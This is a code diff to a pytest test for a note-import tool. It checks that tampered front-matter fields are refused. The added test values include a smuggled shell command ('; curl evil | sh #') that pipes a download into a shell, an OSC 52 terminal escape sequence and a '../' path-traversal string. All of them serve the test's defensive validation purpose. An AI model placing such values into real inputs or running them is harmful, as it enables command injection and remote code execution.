@@ -116,6 +116,13 @@ def test_what_is_refused(ben: Learner, vault: Path, tmp_path: Path) -> None:
     with pytest.raises(BadInput, match="holds no notes of studytui"):
         ben.importing.folder(tmp_path / "empty")
     page = vault / "road" / "loops.md"
-    (vault / "copy.md").write_text(page.read_text())
+    text = page.read_text()
+    for name in ("; curl evil | sh #", "\\u001b]52;c;x\\u0007", "../x", "x" * 201):
+        for key, usual in (("item", "loops"), ("roadmap", "road")):
+            page.write_text(text.replace(f'{key}: "{usual}"', f'{key}: "{name}"'))
+            with pytest.raises(BadInput, match="its front matter was changed"):
+                ben.importing.folder(vault)
+    page.write_text(text)
+    (vault / "copy.md").write_text(text)
     with pytest.raises(BadInput, match="are the same note"):
         ben.importing.folder(vault)
